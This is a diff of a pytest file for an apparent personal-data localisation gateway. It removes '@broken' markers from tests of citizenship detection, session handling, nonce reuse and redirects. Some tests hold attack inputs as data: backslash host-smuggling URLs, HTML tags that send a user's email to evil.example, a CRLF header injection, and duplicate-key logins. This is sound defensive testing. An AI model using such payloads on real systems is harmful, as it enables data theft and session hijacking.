@@ -108,7 +108,6 @@ def raw(target: str, media: str, body: bytes, headers: Headers = (), method: str
 # ---------------------------------------------------------------------------- 1. a Russian made foreign
 
 
-@broken("rules/ru.yaml `else: elsewhere` and core/locate.py:_declared take everything that is not Russian for foreign")
 @BOTH
 @pytest.mark.parametrize(
     "written", [None, False, "не указано", "-", "?", "RF", "Rossiya", "Росия", "гражданин РФ", "ru-RU"]
@@ -129,7 +128,6 @@ async def test_a_citizenship_of_an_odd_form_makes_nobody_foreign(rules: Callable
     assert leaked(on, EMAIL) == []
 
 
-@broken("core/locate.py:_declared: `**.citizenship` of any object below makes the whole message's person foreign")
 @pytest.mark.parametrize("beside", [
     {"spouse": {"name": "Hans", "citizenship": "DE"}}, {"order": {"courier": {"citizenship": "DE"}}},
     {"note": '{"citizenship": "DE"}'}, {"others": [{"email": "hans@example.org", "citizenship": "DE"}]},
@@ -140,7 +138,6 @@ async def test_the_citizenship_of_somebody_else_in_the_message_makes_nobody_fore
     assert leaked(on, EMAIL) == []
 
 
-@broken("core/judge.py:_owners: residence is looked up only where every identifier names one subject")
 @BOTH
 async def test_a_known_russian_stays_russian_beside_an_unknown_phone_and_a_foreign_citizenship(
     rules: Callable[[], Ruleset],
@@ -151,7 +148,6 @@ async def test_a_known_russian_stays_russian_beside_an_unknown_phone_and_a_forei
     assert leaked(on, EMAIL) == []
 
 
-@broken("service/collect.py:_newcomers: anybody's declaration moves a stored person, even in a request that is refused")
 @BOTH
 async def test_a_refused_strangers_declaration_moves_no_known_person(rules: Callable[[], Ruleset]) -> None:
     on = stage(rules())
@@ -162,7 +158,6 @@ async def test_a_refused_strangers_declaration_moves_no_known_person(rules: Call
     assert leaked(on, EMAIL, since=2) == []
 
 
-@broken("service/collect.py:_newcomers: writes the owner's residence onto whoever the identifier belongs to")
 async def test_a_foreigner_who_types_a_strangers_email_does_not_make_the_stranger_foreign() -> None:
     on = stage()
     await registered(on, {"email": EMAIL, "first_name": "Анна"})
@@ -174,7 +169,6 @@ async def test_a_foreigner_who_types_a_strangers_email_does_not_make_the_strange
     assert leaked(on, EMAIL, since=before) == []
 
 
-@broken("core/locate.py:_declared: in a list that no `subjects:` pattern names, one declaration speaks for everybody")
 @BOTH
 async def test_one_item_of_an_undeclared_list_makes_the_others_no_foreigners(rules: Callable[[], Ruleset]) -> None:
     on = stage(rules())
@@ -194,7 +188,6 @@ async def test_a_header_or_a_referer_declares_nobodys_citizenship() -> None:
 # ------------------------------------------------------------------------- 2. one person taken for another
 
 
-@broken("service/settle.py:_subject_at takes the first of several; the back end takes the last")
 @pytest.mark.parametrize(("media", "body"), [
     ("application/json", '{"email": "%s", "email": "%s", "password": "w"}'),
     ("application/json", '{"email": "%s", "Email": "%s", "password": "w"}'),
@@ -209,7 +202,6 @@ async def test_a_login_that_names_two_people_starts_nobodys_session(media: str, 
     assert "Анна" not in await seen_by(on, anna, HIS)
 
 
-@broken("service/settle.py:_sessions: a page that answers a GET with 200 and a fresh cookie is no login")
 @pytest.mark.parametrize("method", ["GET", "HEAD", "OPTIONS"])
 async def test_a_request_that_only_reads_starts_no_session(method: str) -> None:
     on = stage()
@@ -219,7 +211,6 @@ async def test_a_request_that_only_reads_starts_no_session(method: str) -> None:
     assert "Анна" not in await seen_by(on, anna, HIS)
 
 
-@broken("core/judge.py:_owners: `whose: caller` gives a registration to whoever's session the browser still has")
 @BOTH
 async def test_who_registers_in_anothers_session_does_not_become_that_person(rules: Callable[[], Ruleset]) -> None:
     on = stage(rules())
@@ -231,7 +222,6 @@ async def test_who_registers_in_anothers_session_does_not_become_that_person(rul
     assert "Анна" not in await seen_by(on, anna, HIS)
 
 
-@broken("service/collect.py:_newcomers: a subject_ref in the target enters new identifiers before the back end agrees")
 @BOTH
 @pytest.mark.parametrize("status", [302, 403, 500])
 async def test_a_refused_update_of_somebody_gives_him_no_identifier(rules: Callable[[], Ruleset], status: int) -> None:
@@ -244,7 +234,6 @@ async def test_a_refused_update_of_somebody_gives_him_no_identifier(rules: Calla
     assert "Анна" not in await seen_by(on, anna, HIS)
 
 
-@broken("core/judge.py:text_at takes the first of several ids; the back end takes the last")
 async def test_a_message_with_two_ids_is_nobodys() -> None:
     by_body = route("api/save", methods=frozenset({"PUT"}), subject_ref=SubjectRef("user", read=("body", "id")))
     on = stage(world_rules(routes=(by_body, *ROUTES)))
@@ -255,7 +244,6 @@ async def test_a_message_with_two_ids_is_nobodys() -> None:
     assert "Анна" not in await seen_by(on, anna, HIS)
 
 
-@broken("core/judge.py:_owners: an identifier that somebody once mentioned makes its real owner's data his")
 @BOTH
 async def test_mentioning_somebodys_identifiers_beforehand_gives_no_claim_to_his_data(
     rules: Callable[[], Ruleset],
@@ -276,7 +264,6 @@ async def test_an_order_under_a_shared_phone_is_not_shown_to_the_spouse() -> Non
     assert "Иван" not in await seen_by(on, on.last_sent.body, SID)
 
 
-@broken("core/judge.py:identify: ids of two back ends share one directory, so 42 here is 42 there")
 async def test_the_same_id_in_two_back_ends_is_not_the_same_person() -> None:
     on = stage()
     await on.send(post("/api/orders", {"user_id": 4242, "email": EMAIL}))
@@ -284,7 +271,6 @@ async def test_the_same_id_in_two_back_ends_is_not_the_same_person() -> None:
     assert on.vaults[RU].entries[-1].subjects == ()
 
 
-@broken("service/settle.py:_learnt_reference: learns from any 2xx, a GET's list or search included")
 async def test_a_look_up_teaches_nobodys_id() -> None:
     learns = route(
         "api/people", whose="caller", reveal_to=(SUBJECT,), subject_ref=SubjectRef("user", learn=("reply", "id"))
@@ -299,15 +285,14 @@ async def test_a_look_up_teaches_nobodys_id() -> None:
     assert "Анна" not in await seen_by(on, on.last_sent.body, HIS)
 
 
-NOT_ENDED = broken("service/settle.py:_sessions: a session id that goes on in use stays the one of who used it before")
 RENEWED: Headers = (("Set-Cookie", "sid=s1; Path=/"),)
 
 
 @pytest.mark.parametrize(("email", "cookie"), [
     pytest.param(MALLORY["email"], RENEWED, id="known, cookie set again"),
-    pytest.param(MALLORY["email"], (), id="known, cookie kept", marks=NOT_ENDED),
-    pytest.param("never.seen@example.org", RENEWED, id="unknown, cookie set again", marks=NOT_ENDED),
-    pytest.param("never.seen@example.org", (), id="unknown, cookie kept", marks=NOT_ENDED),
+    pytest.param(MALLORY["email"], (), id="known, cookie kept"),
+    pytest.param("never.seen@example.org", RENEWED, id="unknown, cookie set again"),
+    pytest.param("never.seen@example.org", (), id="unknown, cookie kept"),
 ])  # fmt: skip
 async def test_a_login_as_somebody_else_ends_the_old_session(email: str, cookie: Headers) -> None:
     on = stage()
@@ -319,7 +304,6 @@ async def test_a_login_as_somebody_else_ends_the_old_session(email: str, cookie:
     assert "Анна" not in await seen_by(on, anna, SID)
 
 
-@broken("service/settle.py: nothing ever fills Settlement.closed_sessions")
 @pytest.mark.parametrize(
     "gone", ["sid=; Path=/", "sid=deleted; Max-Age=0", "sid=x; expires=Thu, 01 Jan 1970 00:00:00 GMT"]
 )
@@ -340,9 +324,6 @@ async def test_a_made_up_session_is_nobodys(cookie: str) -> None:
     assert "Анна" not in await seen_by(on, anna, (("Cookie", cookie),))
 
 
-@broken(
-    "service/recall.py:_caller: a verified claim that the directory does not know gives way to whatever cookie is there"
-)
 async def test_a_verified_claim_outranks_a_cookie_even_if_its_person_is_new() -> None:
     on = stage(world_rules(claims=ClaimsSpec(jwks="jwks.json")))
     anna = await registered(on, ANNA)
@@ -364,7 +345,6 @@ async def test_mallorys_login_with_annas_cookie_is_mallorys(rules: Callable[[], 
 # --------------------------------------------------------------------------- 3. people who can't see their own
 
 
-@broken("service/recall.py:_session reads the cookie percent-decoded and unquoted, settle.py:_set_cookies as it stands")
 @pytest.mark.parametrize("value", ["s%3Aabc.d%2Fe", '"quoted"'])
 async def test_a_session_id_is_known_again_however_it_is_spelt(value: str) -> None:
     on = stage()
@@ -373,7 +353,6 @@ async def test_a_session_id_is_known_again_however_it_is_spelt(value: str) -> No
     assert "Анна" in await seen_by(on, anna, (("Cookie", f"sid={value}"),))
 
 
-@broken("service/settle.py:_sessions: PHP and others keep the id that the visitor had before the login")
 async def test_a_session_that_began_before_the_login_is_bound_by_it() -> None:
     on = stage()
     anna = await registered(on, ANNA)
@@ -432,7 +411,6 @@ async def test_an_encrypted_field_that_comes_back_is_not_protected_again() -> No
     assert json.loads(on.last_sent.body)["address"] == json.loads(anna)["address"]
 
 
-@broken("core/plan.py:make_plan refuses a look-up for a cookie that nobody searches by")
 @BOTH
 async def test_a_personal_cookie_does_not_lock_its_owner_out_of_reading(rules: Callable[[], Ruleset]) -> None:
     on = stage(rules())
@@ -443,7 +421,6 @@ async def test_a_personal_cookie_does_not_lock_its_owner_out_of_reading(rules: C
 # ----------------------------------------------------------------------------- 4. Idempotency-Key and nonces
 
 
-@broken("service/recall.py:_idempotency leaves headers out: the old record answers for a value that was never recorded")
 async def test_a_value_in_a_header_is_recorded_under_a_used_idempotency_key_too() -> None:
     on = stage()
     await on.send(post("/api/orders", {"first_name": "Фанис"}, (*KEY, ("X-Phone", PHONE))))
@@ -451,7 +428,6 @@ async def test_a_value_in_a_header_is_recorded_under_a_used_idempotency_key_too(
     assert _digits(on.received[0].header("x-phone")) != _digits(on.received[1].header("x-phone"))
 
 
-@broken("adapters/vault_*: `_again` answers by field number, whatever the fields are")
 async def test_a_field_never_gets_another_fields_token_under_a_used_idempotency_key() -> None:
     on = stage()
     await on.send(post("/api/orders", {"first_name": "Фанис"}, (*KEY, ("X-Phone", PHONE))))
@@ -464,7 +440,6 @@ def _digits(text: str | None) -> str:
     return "".join(char for char in text or "" if char.isdigit())
 
 
-@broken("service/collect.py:_record_ids hands out a record id that is taken: GW-V113 for every such retry")
 async def test_a_retry_with_one_header_more_is_not_refused_for_ever() -> None:
     on = stage()
     phone: Headers = (*KEY, ("X-Phone", PHONE))
@@ -473,7 +448,6 @@ async def test_a_retry_with_one_header_more_is_not_refused_for_ever() -> None:
     assert isinstance(outcome, Reply)
 
 
-@broken("core/apply.py:ciphertext: the nonce hangs on place and key alone; two texts under one nonce open both")
 async def test_two_texts_are_never_encrypted_under_one_nonce() -> None:
     on = stage(sealing("phone"))
     for phone in (PHONE, "+7 900 000-07-77"):
@@ -482,7 +456,6 @@ async def test_two_texts_are_never_encrypted_under_one_nonce() -> None:
     assert len(nonces) == 2
 
 
-@broken("core/enclose.py:_keep draws the nonce from the retry's seed, but record id, names and so plaintext are new")
 async def test_two_records_are_never_sealed_under_one_nonce() -> None:
     on = stage()
     vault, sealed = on.vaults[RU], list[bytes]()
@@ -528,13 +501,11 @@ async def located(*locations: str) -> str:
     return " ".join(value for name, value in outcome.headers if name == "Location")
 
 
-@broken("core/reveal.py:_is_listed_location: browsers end the authority at a backslash, urlsplit does not")
 @pytest.mark.parametrize("start", ["https://evil.example\\@app.example/", "https://evil.example\\\\@app.example/"])
 async def test_a_backslash_smuggles_no_host_into_location(start: str) -> None:
     assert EMAIL not in await located(start + "?e={}")
 
 
-@broken("core/reveal.py:_is_listed_location judges every Location header by the first")
 async def test_each_location_header_is_judged_by_its_own_host() -> None:
     assert EMAIL not in (await located("https://app.example/", "https://evil.example/?e={}"))
 
@@ -556,7 +527,6 @@ async def test_an_original_breaks_no_line_of_a_location() -> None:
     assert outcome.header("location") == "https://app.example/a%0D%0ASet-Cookie%3A%20x%3D1"
 
 
-@broken("core/codec/html.py, core/reveal.py:in_reach: a browser sends what it loads; no host is asked for")
 @pytest.mark.parametrize("page", [
     '<img src="https://evil.example/p?u={}">', '<script src="//evil.example/{}"></script>',
     '<form action="https://evil.example/{}">',
@@ -571,7 +541,6 @@ async def test_a_page_carries_no_original_to_another_host(page: str) -> None:
     assert EMAIL.encode() not in outcome.body
 
 
-@broken("service/disclose.py:_private puts `private` in the place of the back end's stricter no-store")
 async def test_a_revealed_reply_stays_as_uncacheable_as_the_back_end_made_it() -> None:
     on = stage()
     on.respond = lambda sent: Reply(
